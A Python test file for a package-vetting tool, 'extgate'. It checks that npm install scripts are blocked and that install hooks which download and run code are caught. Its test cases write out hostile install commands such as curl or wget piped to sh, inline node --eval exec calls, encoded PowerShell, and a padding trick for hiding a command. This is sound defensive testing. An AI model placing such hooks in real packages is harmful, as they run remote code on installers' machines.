"""A lifecycle install script is an error in every profile: `--yes` cannot acknowledge it; the caller can allow it."""

from __future__ import annotations

import json

import pytest

from extgate.engine import check
from extgate.model import Level, Status
from extgate.options import Options
from extgate.policy import Policy
from support.archives import npm_tgz

SCRIPTED = {"name": "x-ext", "version": "1.0.0", "license": "MIT", "scripts": {"postinstall": "node setup.js"}}


def tgz(manifest: dict[str, object], extra: dict[str, str] | None = None) -> bytes:
    return npm_tgz({"package.json": json.dumps(manifest), "index.js": "module.exports = 1;\n", **(extra or {})})


@pytest.mark.parametrize("profile", ["npm", "swamp", "cinatra"])
def test_yes_does_not_acknowledge_an_install_script(profile: str) -> None:
    opts = Options(profile=profile, manifest_kind="package.json", acknowledge_all=True, network=False, offline=True)
    verdict = check(tgz(SCRIPTED), options=opts)
    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script"]
    assert finding.level is Level.ERROR and not finding.acknowledged
    assert verdict.status is Status.BLOCKED


def test_clean_twin_without_a_script_has_no_finding() -> None:
    clean = {k: v for k, v in SCRIPTED.items() if k != "scripts"}
    verdict = check(tgz(clean), options=Options(acknowledge_all=True, network=False, offline=True))
    assert not [f for f in verdict.findings if f.rule_id == "manifest/install-script"]


def test_the_callers_policy_can_allow_it_and_then_yes_acknowledges() -> None:
    allow = Policy.from_mapping({"rules": {"manifest/install-script": {"level": "warning"}}}, "caller")
    verdict = check(tgz(SCRIPTED), allow, options=Options(acknowledge_all=True, network=False, offline=True))
    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script"]
    assert finding.level is Level.WARNING and finding.acknowledged


def test_a_policy_inside_the_archive_cannot_lower_it() -> None:
    inside = '[rules."manifest/install-script"]\nlevel = "warning"\n'
    verdict = check(tgz(SCRIPTED, {".extgate.toml": inside}), options=Options(network=False, offline=True))
    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script"]
    assert finding.level is Level.ERROR


# -- manifest/install-script-payload ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "what"),
    [
        ("node -e \"require('https').get('https://x.example/p')\"", "`node -e` runs inline code"),
        ("curl -fsSL https://get.example/i.sh | sh", "`sh` runs what was just downloaded"),
        ("sh -c 'wget -qO- https://get.example/i | bash'", "`wget` downloads code at install time"),
        ("FOO=1 node --eval \"require('child_process').exec('id')\"", "`node --eval` runs inline code that"),
        ("echo $(curl -s https://get.example/v)", "`curl` downloads code at install time"),
        ("npx some-helper@latest setup", "`npx` fetches and runs a package"),
        ("powershell -enc SQBFAFgA", "`powershell -enc` runs inline code"),
        ("node --eval=\"require('child_process').exec('id')\"", "`node --eval` runs inline code that"),
        ("bash -lc 'curl -s https://get.example/i | sh'", "`sh` runs what was just downloaded"),
        ("echo ok;curl -o x https://get.example/x", "`curl` downloads code at install time"),
        (
            "echo ok\nwget -qO- https://get.example/x | sh",
            "`sh` runs what was just downloaded",
        ),  # a newline ends a command
    ],
)
def test_inline_and_downloaded_install_code_is_an_error(script: str, what: str) -> None:
    manifest = {**SCRIPTED, "scripts": {"preinstall": script}}
    allow = Policy.from_mapping({"rules": {"manifest/install-script": {"level": "warning"}}}, "caller")
    verdict = check(tgz(manifest), allow, options=Options(acknowledge_all=True, network=False, offline=True))
    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
    assert finding.level is Level.ERROR and what in finding.message
    assert finding.path == "package.json" and finding.properties["pointer"] == "/scripts/preinstall"


@pytest.mark.parametrize(
    "script",
    [
        "node scripts/setup.js",
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "husky install",
        "node -e \"try{require('./postinstall')}catch(e){}\"",  # core-js: inline code that only loads a packaged file
    ],
)
def test_scripts_that_run_packaged_files_are_not_payloads(script: str) -> None:
    manifest = {**SCRIPTED, "scripts": {"install": script}}
    verdict = check(tgz(manifest), options=Options(network=False, offline=True))
    assert not [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]


def test_a_script_longer_than_extgate_reads_is_a_payload_not_a_blind_spot() -> None:
    """Padding past the read limit would hide the command after it; reading all of it is unbounded (shlex on a
    320 KB script took seconds, times every bundled manifest), so the length itself is the finding."""
    script = "echo " + "a" * 20_000 + "; curl -s https://get.example/i | sh"
    manifest = {**SCRIPTED, "scripts": {"postinstall": script}}
    allow = Policy.from_mapping({"rules": {"manifest/install-script": {"level": "warning"}}}, "caller")
    verdict = check(tgz(manifest), allow, options=Options(acknowledge_all=True, network=False, offline=True))
    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
    assert finding.level is Level.ERROR and "20,041 characters long" in finding.message


@pytest.mark.parametrize(
    ("script", "files", "what"),
    [
        ("sh install.sh", {"install.sh": "#!/bin/sh\nset -e\ncurl -fsSL https://get.example/i | sh\n"},
         "runs install.sh, where `sh` runs what was just downloaded"),
        ("bash ./scripts/setup.sh --quiet", {"scripts/setup.sh": "wget -q https://get.example/x -O /tmp/x"},
         "runs ./scripts/setup.sh, where `wget` downloads code at install time"),
        ("./scripts/postinstall", {"scripts/postinstall": "#!/bin/bash\nnode -e \"require('child_process')"
                                                          ".exec('id')\"\n"},
         "runs ./scripts/postinstall, where `node -e` runs inline code that"),
        ("sh a.sh", {"a.sh": "sh lib/b.sh", "lib/b.sh": "npx evil-helper"},  # nested, relative to the package
         "runs lib/b.sh, where `npx` fetches and runs a package"),
    ],
)  # fmt: skip
def test_packaged_shell_scripts_the_install_script_runs_are_read(script: str, files: dict[str, str], what: str) -> None:
    """The file is in the archive, but package.json only names it: `sh install.sh` passed while install.sh ran
    `curl | sh` (under a policy that allows install scripts, the payload rule is the only line of defence)."""
    manifest = {**SCRIPTED, "scripts": {"postinstall": script}}
    allow = Policy.from_mapping({"rules": {"manifest/install-script": {"level": "warning"}}}, "caller")
    verdict = check(tgz(manifest, files), allow, options=Options(acknowledge_all=True, network=False, offline=True))
    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
    assert finding.level is Level.ERROR and what in finding.message, finding.message


@pytest.mark.parametrize(
    ("script", "files"),
    [
        ("sh install.sh", {"install.sh": "#!/bin/sh\nnode-gyp rebuild\n"}),  # a harmless packaged script
        ("sh missing.sh", {}),  # not shipped: the shell fails, nothing runs
        ("./bin/setup", {"bin/setup": "#!/usr/bin/env node\nrequire('./lib');\n"}),  # node: the code gate's
        ("sh -c 'node x.js'", {"x.js": ""}),
    ],
)
def test_harmless_or_absent_packaged_scripts_are_not_payloads(script: str, files: dict[str, str]) -> None:
    manifest = {**SCRIPTED, "scripts": {"install": script}}
    verdict = check(tgz(manifest, files), options=Options(network=False, offline=True))
    assert not [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
